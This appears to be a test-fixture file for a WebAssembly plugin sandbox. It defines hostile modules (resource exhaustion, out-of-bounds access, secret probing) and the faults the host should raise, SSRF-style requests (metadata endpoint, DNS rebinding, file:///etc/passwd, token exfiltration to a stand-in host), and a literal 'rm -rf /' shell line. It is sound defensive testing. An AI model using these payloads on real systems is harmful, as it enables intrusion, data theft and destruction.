/**
 * Skills that attack: each a module, and what must become of it. `ATTACKS` load and fail when they are called, with this fault;
 * `REFUSED` are never loaded, for this reason.
 */
import type { SkillFault } from '../../src/skills/errors.ts'
import { assemble, moduleOf, saying } from './hostile.ts'

/** Asks for each of these names, and fails unless something was there. */
function looking(ask: 'storage_get' | 'config_get', names: readonly string[]): Uint8Array {
  let at = 0
  const data: string[] = []
  const asks = names.map((name) => {
    const start = at
    at += name.length
    data.push(`(data (i32.const ${start}) "${name}")`)
    return `(local.set $k (call $alloc (i64.const ${name.length})))
      (local.set $n (i32.const 0))
      (loop $next
        (call $store_u8
          (i64.add (local.get $k) (i64.extend_i32_u (local.get $n)))
          (i32.load8_u (i32.add (i32.const ${start}) (local.get $n))))
        (local.set $n (i32.add (local.get $n) (i32.const 1)))
        (br_if $next (i32.lt_u (local.get $n) (i32.const ${name.length}))))
      (if (i64.ne (call $${ask} (local.get $k)) (i64.const 0)) (then (return (i32.const 0))))`
  })
  return moduleOf(
    ['alloc', 'store_u8', ask],
    `(local $k i64) (local $n i32) ${asks.join('\n').replaceAll('$next', '$next')} (i32.const 9)`,
    `(memory 1) ${data.join(' ')}`,
  )
}

const forever = (body: string): string => `(loop $again ${body} (br $again)) (i32.const 0)`

export interface Attack {
  readonly code: SkillFault
  readonly module: Uint8Array
  readonly permissions?: readonly string[]
}

export const ATTACKS: Readonly<Record<string, Attack>> = {
  'loops-for-ever': { code: 'skill-timeout', module: moduleOf([], forever('')) },
  'loops-in-its-start': {
    code: 'skill-timeout',
    module: moduleOf(
      [],
      '(i32.const 0)',
      '(memory 1) (func $start (loop $again (br $again))) (start $start)',
    ),
  },
  'grows-its-memory': {
    code: 'skill-trapped',
    module: moduleOf(
      [],
      `(loop $again
         (if (i32.eq (memory.grow (i32.const 1)) (i32.const -1)) (then (unreachable)))
         (memory.fill (i32.const 0) (i32.const 7) (i32.mul (memory.size) (i32.const 65536)))
         (br $again))
       (i32.const 0)`,
    ),
  },
  'grows-its-table': {
    code: 'skill-trapped',
    module: moduleOf(
      [],
      `(loop $again
         (if (i32.eq (table.grow $t (ref.null func) (i32.const 4096)) (i32.const -1)) (then (unreachable)))
         (br $again))
       (i32.const 0)`,
      '(memory 1) (table $t 1 funcref)',
    ),
  },
  'allocates-for-ever': {
    code: 'skill-budget',
    module: moduleOf(['alloc'], forever('(drop (call $alloc (i64.const 65536)))')),
  },
  'allocates-nothing-for-ever': {
    code: 'skill-budget',
    module: moduleOf(['alloc'], forever('(drop (call $alloc (i64.const 0)))')),
  },
  'allocates-and-frees-for-ever': {
    code: 'skill-budget',
    module: moduleOf(['alloc', 'free'], forever('(call $free (call $alloc (i64.const 1)))')),
  },
  'allocates-it-all': {
    code: 'skill-budget',
    module: moduleOf(['alloc'], '(drop (call $alloc (i64.const 0x7fffffffffffffff))) (i32.const 0)'),
  },
  'allocates-less-than-nothing': {
    code: 'skill-budget',
    module: moduleOf(['alloc'], '(drop (call $alloc (i64.const -1))) (i32.const 0)'),
  },
  traps: { code: 'skill-trapped', module: moduleOf([], '(unreachable)') },
  divides: { code: 'skill-trapped', module: moduleOf([], '(i32.div_u (i32.const 1) (i32.const 0))') },
  'leaves-its-memory': { code: 'skill-trapped', module: moduleOf([], '(i32.load (i32.const -4))') },
  recurses: {
    code: 'skill-trapped',
    module: moduleOf(
      [],
      '(call $deeper) (i32.const 0)',
      '(memory 1) (func $deeper (call $deeper) (call $deeper))',
    ),
  },
  'says-too-much': {
    code: 'skill-budget',
    module: moduleOf(
      ['alloc', 'output_set'],
      '(call $output_set (call $alloc (i64.const 500000)) (i64.const 500000)) (i32.const 0)',
    ),
  },
  'says-what-lies-outside': {
    code: 'skill-trapped',
    module: moduleOf(['output_set'], '(call $output_set (i64.const 8) (i64.const 4000)) (i32.const 0)'),
  },
  'says-no-json': { code: 'skill-answer', module: saying('{"speech":') },
  'says-no-answer': { code: 'skill-answer', module: saying('{"speech":["a"],"evil":true}') },
  'fails-by-itself': { code: 'skill-trapped', module: moduleOf([], '(i32.const 3)') },
  'storms-its-host': {
    code: 'skill-budget',
    module: moduleOf(
      ['alloc', 'storage_get'],
      `(local $k i64) (local.set $k (call $alloc (i64.const 1)))
      ${forever('(drop (call $storage_get (local.get $k)))')}`,
    ),
  },
  'lists-for-ever': {
    code: 'skill-budget',
    module: moduleOf(['storage_list'], forever('(drop (call $storage_list (i64.const 0)))')),
  },
  'logs-for-ever': {
    code: 'skill-budget',
    module: moduleOf(
      ['alloc', 'log_info'],
      `(local $k i64) (local.set $k (call $alloc (i64.const 100)))
      ${forever('(call $log_info (local.get $k))')}`,
    ),
  },
  'fills-variables': {
    code: 'skill-budget',
    module: moduleOf(
      ['alloc', 'var_set'],
      forever('(call $var_set (call $alloc (i64.const 8)) (call $alloc (i64.const 9000)))'),
    ),
  },
  'reads-far-away': {
    code: 'skill-trapped',
    module: moduleOf(['load_u8'], '(call $load_u8 (i64.const 0x7fffffffffffffff))'),
  },
  'reads-before-the-start': {
    code: 'skill-trapped',
    module: moduleOf(['load_u8'], '(call $load_u8 (i64.const -1))'),
  },
  'reads-over-the-edge': {
    code: 'skill-trapped',
    module: moduleOf(
      ['alloc', 'load_u64'],
      '(drop (call $load_u64 (i64.add (call $alloc (i64.const 8)) (i64.const 1)))) (i32.const 0)',
    ),
  },
  'reads-beyond-its-input': {
    code: 'skill-trapped',
    module: moduleOf(['input_load_u8'], '(call $input_load_u8 (i64.const 1000000))'),
  },
  'writes-far-away': {
    code: 'skill-trapped',
    module: moduleOf(
      ['store_u64'],
      '(call $store_u64 (i64.const 0x10000000000) (i64.const 1)) (i32.const 0)',
    ),
  },
  'names-no-block': {
    code: 'skill-trapped',
    module: moduleOf(['storage_get'], '(drop (call $storage_get (i64.const 12345))) (i32.const 0)'),
  },
  'writes-no-text': {
    code: 'skill-answer',
    module: moduleOf(
      ['alloc', 'store_u8', 'storage_get'],
      `(local $k i64) (local.set $k (call $alloc (i64.const 1)))
       (call $store_u8 (local.get $k) (i32.const 255))
       (drop (call $storage_get (local.get $k))) (i32.const 0)`,
    ),
  },
  'catches-its-stop': {
    code: 'skill-budget',
    // With exception handling a module can catch what its imports throw, and say that all is well.
    module: moduleOf(
      ['alloc'],
      `(try $t (do (drop (call $alloc (i64.const 0x7fffffffffffffff)))) (catch_all)) (i32.const 0)`,
    ),
  },
  'catches-its-stops-for-ever': {
    code: 'skill-timeout',
    module: moduleOf(
      ['alloc'],
      forever('(try $t (do (drop (call $alloc (i64.const 0x7fffffffffffffff)))) (catch_all))'),
    ),
  },
  'reads-what-others-stored': {
    code: 'skill-trapped',
    // Would say it if it found anything.
    module: looking('storage_get', [
      'storage/secret',
      '../skill.list/storage/secret',
      'skill.list/secret',
      'secret',
    ]),
  },
  'reads-secrets-of-others': {
    code: 'skill-trapped',
    module: looking('config_get', ['list.token', 'token', '__proto__', 'constructor', 'PATH', 'LOQA_DATA']),
  },
  'remembers-what-it-was-told': {
    code: 'skill-trapped',
    // A second call looks for what the first one left in memory, in a global and in a variable.
    module: moduleOf(
      [],
      `(if (i32.or (i32.load (i32.const 1000)) (global.get $left)) (then (return (i32.const 0))))
       (i32.store (i32.const 1000) (i32.const 7)) (global.set $left (i32.const 7)) (i32.const 9)`,
      '(memory 1) (global $left (mut i32) (i32.const 0))',
    ),
  },
  'leaks-slowly': {
    code: 'skill-trapped',
    // Stores a little more with every line until it is told that there is no room.
    module: moduleOf(
      ['alloc', 'store_u8', 'storage_put'],
      `(local $k i64) (local $v i64) (local $n i32)
       (local.set $v (call $alloc (i64.const 1000)))
       (loop $again
         (local.set $k (call $alloc (i64.const 1)))
         (call $store_u8 (local.get $k) (i32.add (i32.const 65) (local.get $n)))
         (if (i32.ne (call $storage_put (local.get $k) (local.get $v)) (i32.const 0)) (then (unreachable)))
         (local.set $n (i32.add (local.get $n) (i32.const 1)))
         (br_if $again (i32.lt_u (local.get $n) (i32.const 26))))
       (i32.const 0)`,
    ),
  },
  'forks-timers': {
    code: 'skill-budget',
    permissions: ['timers'],
    module: moduleOf(
      ['alloc', 'store_u8', 'timer_set'],
      `(local $k i64) (local $n i32)
       (loop $again
         (local.set $k (call $alloc (i64.const 1)))
         (call $store_u8 (local.get $k) (i32.and (local.get $n) (i32.const 127)))
         (drop (call $timer_set (local.get $k) (i64.const 0)))
         (local.set $n (i32.add (local.get $n) (i32.const 1)))
         (br $again))
       (i32.const 0)`,
      '(memory 1) (func (export "due") (result i32) (i32.const 0))',
    ),
  },
  'fills-its-table-with-others': {
    code: 'skill-trapped',
    module: moduleOf(
      ['alloc'],
      '(drop (call_indirect (type $t) (i64.const 1) (i32.const 0))) (i32.const 0)',
      '(memory 1) (type $t (func (param i64) (result i32))) (table 1 funcref) (elem (i32.const 0) $alloc)',
    ),
  },
  'writes-its-data-outside': {
    code: 'skill-trapped',
    module: moduleOf([], '(i32.const 0)', '(memory 1) (data (i32.const 65530) "0123456789")'),
  },
  'takes-no-arguments': {
    code: 'skill-trapped',
    module: assemble(
      '(module (memory 1) (func (export "handle") (param i32 i32) (result i32) (unreachable)))',
    ),
  },
  'compiles-to-nothing': {
    code: 'skill-refused',
    // A body that does not type-check: the walk over the sections cannot see it, the engine does.
    module: Uint8Array.from([
      0, 0x61, 0x73, 0x6d, 1, 0, 0, 0, 1, 5, 1, 0x60, 0, 1, 0x7f, 3, 2, 1, 0, 7, 10, 1, 6, 0x68, 0x61, 0x6e,
      0x64, 0x6c, 0x65, 0, 0, 10, 5, 1, 3, 0, 0x6a, 0x0b,
    ]),
  },
}

export const REFUSED: Readonly<Record<string, { readonly why: string; readonly module: Uint8Array }>> = {
  'wants-the-web': { why: 'http_request', module: moduleOf(['http_request'], '(i32.const 0)') },
  'wants-timers': { why: 'timer_set', module: moduleOf(['timer_set'], '(i32.const 0)') },
  'wants-the-system': {
    why: 'wasi_snapshot_preview1.fd_write',
    module: assemble(
      '(module (import "wasi_snapshot_preview1" "fd_write" (func)) (func (export "handle") (result i32) (i32.const 0)))',
    ),
  },
  'wants-a-memory': {
    why: 'not a function',
    module: assemble(
      '(module (import "extism:host/env" "alloc" (memory 1)) (func (export "handle") (result i32) (i32.const 0)))',
    ),
  },
  'wants-too-much-memory': { why: '65536 KiB', module: moduleOf([], '(i32.const 0)', '(memory 1024)') },
  'wants-two-memories': {
    why: 'more than one memory',
    module: moduleOf([], '(i32.const 0)', '(memory $a 1) (memory $b 1)'),
  },
  'wants-a-large-table': {
    why: 'table',
    module: moduleOf([], '(i32.const 0)', '(memory 1) (table 1000000 funcref)'),
  },
  'imports-by-a-magic-name': {
    why: '__proto__',
    module: assemble(
      '(module (import "extism:host/env" "__proto__" (func)) (func (export "handle") (result i32) (i32.const 0)))',
    ),
  },
  'imports-the-memory-of-others': {
    why: 'loqa.memory',
    module: assemble(
      '(module (import "loqa" "memory" (memory 1)) (func (export "handle") (result i32) (i32.const 0)))',
    ),
  },
  'shares-its-memory': {
    why: 'shared',
    module: moduleOf([], '(i32.const 0)', '(memory 1 2 shared)'),
  },
  'addresses-with-64-bits': {
    why: '64 bits',
    module: moduleOf([], '(i32.const 0)', '(memory i64 1)'),
  },
  'has-no-entry': { why: 'handle', module: assemble('(module (memory 1))') },
  'is-no-module': {
    why: 'not a WebAssembly module',
    module: new TextEncoder().encode('#!/bin/sh\nrm -rf /\n'),
  },
  'is-empty': { why: 'not a WebAssembly module', module: new Uint8Array() },
  'is-cut-off': { why: 'cut off', module: moduleOf([], '(i32.const 0)').subarray(0, 30) },
}

/** What a skill asks for that was granted these hosts. Names are looked up in `test/process/cable.ts`. */
export interface Request {
  readonly hosts: readonly string[]
  readonly url: string
  readonly headers?: Readonly<Record<string, string>>
}

export const REQUESTS: Readonly<Record<string, Request>> = {
  'scans-the-lan': { hosts: ['192.168.1.1'], url: 'http://192.168.1.1/' },
  'scans-the-lan-by-name': { hosts: ['router.example'], url: 'http://router.example/' },
  'asks-the-node-itself': { hosts: ['me.example'], url: 'http://me.example/api/v1/status' },
  'asks-the-cloud-for-keys': { hosts: ['metadata.example'], url: 'http://metadata.example/latest/meta-data' },
  'is-sent-inside': {
    hosts: ['public.example', 'router.example'],
    url: 'http://public.example/to?http://router.example/',
  },
  'is-sent-to-the-lan': {
    hosts: ['public.example', '10.0.0.1'],
    url: 'http://public.example/to?http://10.0.0.1/',
  },
  'rebinds-its-name': {
    hosts: ['rebinding.example'],
    url: 'http://rebinding.example/to?http://rebinding.example/second',
  },
  'asks-whom-nobody-granted': { hosts: ['public.example'], url: 'http://evil.example/' },
  'asks-for-a-file': { hosts: ['public.example'], url: 'file:///etc/passwd' },
  'steals-a-secret': { hosts: ['public.example'], url: 'http://public.example/?k={secret:token}' },
  'smuggles-a-host': {
    hosts: ['public.example'],
    url: 'http://public.example/',
    headers: { Host: 'router.example' },
  },
}

/** A module that asks for this once, and does not care what it hears. */
export function requesting({ url, headers = {} }: Request): Uint8Array {
  const bytes = new TextEncoder().encode(JSON.stringify({ id: 'one', method: 'GET', url, headers }))
  const data = [...bytes].map((byte) => `\\${byte.toString(16).padStart(2, '0')}`).join('')
  return moduleOf(
    ['alloc', 'store_u8', 'http_send'],
    `(local $k i64) (local $n i32)
     (local.set $k (call $alloc (i64.const ${bytes.length})))
     (loop $next
       (call $store_u8
         (i64.add (local.get $k) (i64.extend_i32_u (local.get $n)))
         (i32.load8_u (local.get $n)))
       (local.set $n (i32.add (local.get $n) (i32.const 1)))
       (br_if $next (i32.lt_u (local.get $n) (i32.const ${bytes.length}))))
     (call $http_send (local.get $k))`,
    `(memory 1) (data (i32.const 0) "${data}") (func (export "heard") (result i32) (i32.const 0))`,
  )
}
